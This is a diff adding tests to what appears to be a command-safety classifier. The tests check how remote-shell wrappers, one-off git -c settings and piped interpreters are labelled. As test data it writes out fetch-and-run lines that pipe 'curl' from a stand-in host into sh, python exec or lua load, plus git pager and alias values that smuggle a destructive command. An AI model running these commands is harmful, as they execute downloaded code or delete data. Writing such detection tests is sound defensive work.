@@ -151,3 +151,53 @@ test('commands of signs that a function of the code itself turns into others', (
   assert.deepEqual(effectsOf("print(''.join(chr(ord(c) + 1) for c in 'abc'))", 'python'), []);
   assert.deepEqual(effectsOf("console.log([1, 2].map((n) => n * 2).join(','))", 'javascript'), []);
 });
+
+test('what a program hands to another machine or shell is read, whatever its reader knows of the program', () => {
+  for (const command of [
+    `vagrant ssh -c '${GONE}'`,
+    `fly ssh console -a shop -C '${GONE}'`,
+    `heroku run '${GONE}'`,
+    `fish -c 'command ${GONE}'`,
+  ])
+    deletes(command);
+  for (const command of [
+    `vagrant ssh -c 'ls -la /srv'`,
+    `heroku run 'rake db:version'`,
+    `gh issue create --title x --body '${GONE}'`,
+  ])
+    keeps(command);
+});
+
+test('a setting that git is given for one command runs its value and makes nothing permanent', () => {
+  for (const command of [`git -c core.pager='${GONE}' log`, `git -c alias.st='!${GONE}' st`]) deletes(command);
+  for (const command of [
+    'git -c core.pager=less log',
+    "git -c core.sshCommand='ssh -i ~/.ssh/key' fetch",
+    'git config core.pager delta',
+  ])
+    assert.ok(!kindsOf(command).includes('persists'), command);
+  for (const command of [
+    'git -c core.hooksPath=/srv/hooks commit -m x',
+    "git config core.pager '/srv/p'",
+    'git config credential.helper store',
+  ])
+    assert.ok(kindsOf(command).includes('persists'), command);
+  assert.ok(
+    worldOf("git config core.pager 'curl -s http://elsewhere.test/x | sh'", 'shell').dormant.items.some(
+      ({ kind }) => kind === 'downloads_and_runs',
+    ),
+  );
+});
+
+test('an interpreter that reads data from a pipe runs none of it', () => {
+  const fed = (code: string): string[] => kindsOf(`curl -s http://elsewhere.test/x | python3 -c '${code}'`);
+  for (const code of [
+    'import sys,json;print(json.load(sys.stdin)["id"])',
+    'import sys,json;print(json.load(sys.stdin)["system"])',
+  ])
+    assert.ok(!fed(code).includes('downloads_and_runs'), code);
+  for (const code of ['import sys;exec(sys.stdin.read())', 'import sys;globals()["exec"](sys.stdin.read())'])
+    assert.ok(fed(code).includes('downloads_and_runs'), code);
+  for (const code of ['load(io.read("*a"))()', '_G.load(io.read("*a"))()'])
+    assert.ok(kindsOf(`curl -s http://elsewhere.test/x | lua -e '${code}'`).includes('downloads_and_runs'), code);
+});
